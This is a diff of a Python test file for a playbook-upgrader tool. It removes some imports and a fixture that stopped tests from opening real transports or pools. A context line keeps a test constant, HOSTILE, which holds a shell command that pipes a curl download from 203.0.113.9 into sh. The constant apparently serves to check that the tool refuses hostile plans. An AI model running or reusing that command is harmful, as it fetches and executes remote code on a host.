@@ -15,7 +15,7 @@ import hashlib
 import json
 import re
 import shutil
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -24,13 +24,9 @@ import yaml
 from markdown_it import MarkdownIt
 
 from upgrader.cli.main import main
-from upgrader.engine import pool as pool_module
-from upgrader.engine import remote
-from upgrader.errors import RefusedError
 from upgrader.loading.inputs import load_playbook
 from upgrader.loading.pins import controller_files, import_root
 from upgrader.models.plan import Plan
-from upgrader.transport import fabric_adapter
 
 REPO = Path(__file__).resolve().parents[2]
 PLAYBOOK = REPO / "playbooks" / "ordergw-5.2.0.yml"
@@ -39,29 +35,6 @@ MODULE = REPO / "playbooks" / "verify" / "ordergw.py"
 HOSTILE = ["/bin/sh", "-c", "curl -s https://203.0.113.9/x | sh"]
 
 Record = Callable[[str, object], None]
-
-
-class Connected(RefusedError):
-    """Raised where a connection would begin: the check let the plan through."""
-
-
-@pytest.fixture
-def connections(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
-    """Every pool or transport created and every agent start, recorded; none of them connects."""
-    made: list[str] = []
-
-    def transport(self: Any, endpoint: Any, *args: Any, **kwargs: Any) -> None:
-        made.append(f"transport {endpoint.name}")
-        raise Connected(f"reached the transport of {endpoint.name}")
-
-    def pool(self: Any, *args: Any, **kwargs: Any) -> None:
-        made.append("pool")
-        raise Connected("reached the pool")
-
-    monkeypatch.setattr(fabric_adapter.FabricTransport, "__init__", transport)
-    monkeypatch.setattr(pool_module.Pool, "__init__", pool)
-    monkeypatch.setattr(remote, "start", lambda *a, **k: made.append("agent start"))
-    yield made
 
 
 def write_playbook(folder: Path, module: str = "verify/ordergw.py", **changes: Any) -> None:
